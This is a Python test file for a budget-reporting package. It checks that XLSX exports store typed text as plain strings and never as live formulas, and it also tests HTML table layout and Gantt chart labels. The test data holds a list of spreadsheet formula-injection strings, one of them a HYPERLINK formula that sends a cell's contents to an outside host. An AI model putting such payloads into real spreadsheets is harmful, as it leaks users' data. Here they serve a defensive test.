"""Tables for people: HTML and XLSX; no typed text ever becomes a live formula."""

from __future__ import annotations

import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest

from mics_budget.config import DataDir
from mics_budget.procurement.recording import add_lot, record_event
from mics_budget.report.presentation import Table, write_xlsx
from mics_budget.report.report import MonthlyReport

HOSTILE = ['=HYPERLINK("http://x/?"&B2,"ok")', "=1+2", "+1+2", "-1+2", "@SUM(A1)"]


def _formulas(path) -> list[str]:
    """Every formula element in every sheet of an XLSX file."""
    with zipfile.ZipFile(path) as archive:
        sheets = {name: archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/")}
    assert sheets
    return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]


def test_text_cells_are_strings_never_formulas(tmp_path):
    frame = pd.DataFrame({"supplier": HOSTILE, "paid": [1.5, -2.0, 3.0, 4.0, 5.0]})
    path = tmp_path / "t.xlsx"
    write_xlsx(path, [Table("register", frame, {"paid": "money"})], banner="=B", title="=T")
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    for text in HOSTILE:
        assert cells[text] == "s"  # kept as typed, a string
    assert cells[-2.0] == "n"      # numbers stay numbers


@pytest.mark.slow  # over half a second: the fast loop stays under a minute
def test_a_hostile_register_gives_a_report_xlsx_without_formulas(money_dir, tmp_path):
    data = DataDir(money_dir)
    add_lot(data, "L2", "7.2", "auction", "100", title=HOSTILE[0],
            planned_announce=date(2023, 6, 1))
    record_event(data, "L2", "announced", date(2023, 6, 2), note=HOSTILE[1],
                 document=HOSTILE[4], today=date(2024, 1, 31))
    record_event(data, "L1", "amended", date(2023, 7, 20), amount="9600000",
                 supplier=HOSTILE[2], note=HOSTILE[3], today=date(2024, 1, 31))
    report = MonthlyReport.build(str(money_dir), "2023-07")
    path = tmp_path / "r.xlsx"
    report.write_xlsx(path)
    assert _formulas(path) == []
    texts = {c.value for sheet in openpyxl.load_workbook(path).worksheets
             for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert HOSTILE[0] in texts


def test_a_table_is_in_a_box_of_its_own_sized_by_its_content():
    """The HTML of a table: in a box that scrolls sideways on a narrow screen; a short table
    kept on one printed page, a wide one in a smaller type; beside a column of names the
    numbers take their content's width (the class ``mics-named``)."""
    from mics_budget.report.presentation import NAME_LENGTH, SHORT_TABLE, WIDE_TABLE

    names = pd.DataFrame({"activity": ["7.1", "7.2"], "title": ["Закуп", "Я" * NAME_LENGTH
                                                                 + " закуп"],
                          "paid": [1.0, 2.0]})
    html = Table("by_activity", names, {"activity": "code", "paid": "money"}).to_html()
    assert html.startswith('<div class="mics-table mics-short"><table class="mics mics-named">')
    assert html.endswith("</table></div>")
    short = Table("by_activity", names.head(1), {"activity": "code", "paid": "money"})
    assert '<table class="mics">' in short.to_html()  # short texts: no column of names
    long = pd.DataFrame({"paid": [1.0] * (SHORT_TABLE + 1)})
    assert Table("t", long, {"paid": "money"}).to_html().startswith(
        '<div class="mics-table"><table class="mics">')
    wide = pd.DataFrame({f"c{n}": [1] for n in range(WIDE_TABLE)})
    assert '<table class="mics mics-wide">' in Table("t", wide, dict.fromkeys(
        wide.columns, "int"), labels=dict.fromkeys(wide.columns, "№")).to_html()
    noted = Table("t", names, note="«План» — с уточнениями").to_html()
    assert noted.endswith('</table></div><p class="note">«План» — с уточнениями</p>')


def test_the_gantt_cuts_a_long_title_with_an_ellipsis():
    from mics_budget.report import charts

    long = "Предварительное тестирование вопросников в Карагандинской области"
    plan = pd.DataFrame({"id": ["8.2", "8.3"], "title": [long, "Обучение по CAPI"]})
    intervals = pd.DataFrame({"id": ["8.2", "8.3"],
                              "start": pd.to_datetime(["2023-06-01", "2023-07-01"]),
                              "end_next": pd.to_datetime(["2023-07-01", "2023-08-01"])})
    status = pd.DataFrame({"id": ["8.2", "8.3"], "status": ["done", "planned"]})
    spec = charts.gantt(plan, status, intervals, date(2023, 7, 15)).to_dict()
    labels = {row["label"] for rows in spec["datasets"].values() for row in rows
              if "label" in row}
    assert labels == {"8.2 " + long[:39] + "…", "8.3 Обучение по CAPI"}


def test_the_gantt_legend_names_only_the_statuses_drawn():
    from mics_budget.i18n import t
    from mics_budget.report import charts

    plan = pd.DataFrame({"id": ["8.2", "8.3"], "title": ["Пилот", "Обучение"]})
    intervals = pd.DataFrame({"id": ["8.2", "8.3"],
                              "start": pd.to_datetime(["2023-06-01", "2023-07-01"]),
                              "end_next": pd.to_datetime(["2023-07-01", "2023-08-01"])})
    status = pd.DataFrame({"id": ["8.2", "8.3"], "status": ["done", "done"]})
    spec = charts.gantt(plan, status, intervals, date(2025, 12, 31)).to_dict()
    scale = next(layer["encoding"]["color"]["scale"] for layer in spec["layer"]
                 if "color" in layer.get("encoding", {}))
    assert scale["domain"] == [t("status.done")]
    assert scale["range"] == [charts.STATUS_COLORS["done"]]  # its colour, as everywhere
